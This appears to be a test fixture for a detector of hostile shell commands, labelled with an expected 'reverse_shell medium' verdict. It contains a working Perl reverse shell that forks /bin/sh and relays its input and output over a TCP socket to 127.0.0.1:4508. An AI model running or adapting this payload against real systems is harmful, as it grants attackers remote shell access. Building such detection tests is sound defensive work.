# about: perl copies between the connection and a socket pair, with select
# expect: reverse_shell medium
# needs: python3 perl
proven 4508
timeout 6 perl -e 'use Socket; use IO::Select; use IO::Socket::INET;
socketpair(my $a,my $b,AF_UNIX,SOCK_STREAM,PF_UNSPEC);
if(!fork){close $a; open STDIN,"<&",$b; open STDOUT,">&",$b; open STDERR,">&",$b; exec "/bin/sh"}
close $b; my $s=IO::Socket::INET->new("127.0.0.1:4508"); my $w=IO::Select->new($s,$a);
L: while(1){for my $r ($w->can_read){my $n=sysread($r,my $d,4096); last L unless $n; syswrite($r==$s?$a:$s,$d)}}' || true
answered
